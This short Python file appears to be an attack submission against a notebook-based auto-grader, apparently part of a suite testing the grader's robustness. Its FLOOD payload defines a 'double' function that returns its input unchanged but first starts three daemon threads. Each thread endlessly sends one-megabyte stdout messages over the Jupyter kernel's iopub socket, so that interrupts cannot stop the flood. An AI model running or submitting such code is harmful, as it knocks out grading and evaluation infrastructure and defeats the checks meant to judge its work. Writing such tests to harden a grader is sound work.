"""Floods the grader's wires from threads that no interrupt reaches, with messages as large as may be."""

from attack import HASTY, wrong

LIMITS = HASTY
FLOOD = """
import threading
def flood():
    kernel = get_ipython().kernel
    content = {"name": "stdout", "text": "2" * 10**6}
    parent = kernel.get_parent("shell")
    while True:
        kernel.session.send(kernel.iopub_socket, "stream", content, parent=parent)
def double(x):
    for _ in range(3):
        threading.Thread(target=flood, daemon=True).start()
    return x
double(torch.ones(2))
"""


def submission():
    return wrong(double=FLOOD)
